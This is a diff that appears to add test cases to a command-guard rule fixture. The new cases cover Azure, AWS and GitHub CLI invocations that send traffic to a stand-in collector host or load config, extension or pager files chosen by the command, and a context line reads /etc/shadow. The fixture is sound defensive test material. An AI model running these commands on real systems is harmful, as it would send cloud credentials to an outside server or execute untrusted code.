@@ -115,3 +115,21 @@ cp setup.cfg{,.bak}
 cat src/{app,config}.py
 # ok: GK-BASH-002
 cat "{/etc/shadow,x}"
+
+# -- cloud CLIs: an org URL or a config/plugin location chosen by the command ----------------
+# ruleid: GK-CLOUD-003
+az pipelines build list --org https://collector.example
+# ruleid: GK-CLOUD-003
+az repos list --organization=https://dev.azure.com.collector.example/x
+# ok: GK-CLOUD-003
+az pipelines build show --id 1 --org https://dev.azure.com/contoso
+# ruleid: GK-ENV-001
+AWS_CONFIG_FILE=./aws-config aws s3 ls
+# ruleid: GK-ENV-001
+export AZURE_EXTENSION_DIR=./ext; az repos list
+# ruleid: GK-ENV-001
+GH_PAGER=./pager gh pr view 1
+# ruleid: GK-ENV-001
+AWS_ENDPOINT_URL_S3=https://collector.example aws s3 ls
+# ok: GK-ENV-001
+AWS_PROFILE=dev aws s3 ls
